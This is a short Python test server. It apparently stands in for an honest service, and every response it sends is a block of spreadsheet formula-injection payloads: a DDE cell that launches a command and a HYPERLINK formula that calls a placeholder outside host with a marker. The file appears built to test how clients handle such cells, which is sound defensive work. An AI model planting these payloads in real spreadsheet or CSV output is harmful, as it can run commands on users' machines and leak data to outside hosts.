from honest import Adder, serve

CELLS = "=cmd|' /C calc'!A1\n+1+1\n-1-1\n@SUM(A1)\n\t=1+1\n=HYPERLINK(\"http://@OUTSIDE@/@MARK@\")"


class Speaker(Adder):
    def say(self, answer: object) -> None:
        print(CELLS, flush=True)
        self.send_response(500 if self.command == "POST" else 200)
        self.end_headers()
        self.wfile.write(CELLS.encode())


serve(Speaker)
